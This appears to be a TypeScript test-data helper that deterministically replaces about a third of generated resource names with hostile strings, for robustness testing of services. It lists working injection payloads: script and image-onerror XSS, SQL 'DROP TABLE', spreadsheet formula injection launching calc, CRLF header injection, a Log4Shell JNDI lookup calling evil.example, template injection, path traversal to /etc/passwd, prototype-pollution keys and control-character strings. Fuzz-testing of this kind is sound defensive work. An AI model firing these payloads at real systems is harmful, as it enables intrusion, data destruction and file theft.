import { drawFrom } from "../random.ts";

/** Text that harms a page, a spreadsheet, a log or an object used as a map. All of it can be written in XML 1.0. */
const hostileTexts: readonly string[] = [
  '<script>alert("sekinin")</script>',
  '"><img src=x onerror=alert(1)>',
  "</td></tr></table><h1>owned</h1>",
  "name\r\nSet-Cookie: session=stolen",
  "=cmd|' /C calc'!A0",
  "+1+1|cmd",
  "@SUM(1+1)*cmd",
  "\u202egnp.exe\u202c",
  "\u2066\u200f\u200b\ufeff zero width",
  "__proto__",
  "constructor",
  "<!channel> <https://evil.example|click>",
  "${jndi:ldap://evil.example/a} {{7*7}} %0d%0a",
  "'; DROP TABLE accounts; --",
  "[link](javascript:alert(1))",
  "\u0130\u0131\ufb03 \ud83d\udca3 e\u0301\u0323",
  "../../../../etc/passwd",
];

/** What XML 1.0 cannot carry: only for services that speak JSON. */
const hostileControls: readonly string[] = [
  "\u0000nul",
  "\u001b[31mred\u001b[0m",
  "bell\u0007back\u0008",
  "lone \ud800 half",
];

const longText = `${"A".repeat(32_000)}<b>${"\u0e01\u0e33".repeat(5_000)}`;

/** Where the text travels: XML cannot carry control characters, a path or an ARN only word characters. */
export type NameCarrier = "json" | "xml" | "word";

/** About one name in three becomes hostile; `key` decides which. The 64 kB text comes with its number. */
export function hostileName(key: string, plain: string, carrier: NameCarrier): string {
  if (drawFrom("hostile", key) > 0.35) return plain;
  if (carrier === "word") return pickFrom(["__proto__", "constructor", "toString"], key);
  const choices = carrier === "json" ? [...hostileTexts, ...hostileControls, longText] : [...hostileTexts, longText];
  return pickFrom(choices, key);
}

function pickFrom(choices: readonly string[], key: string): string {
  return choices[Math.floor(drawFrom("hostile-choice", key) * choices.length)] ?? "__proto__";
}
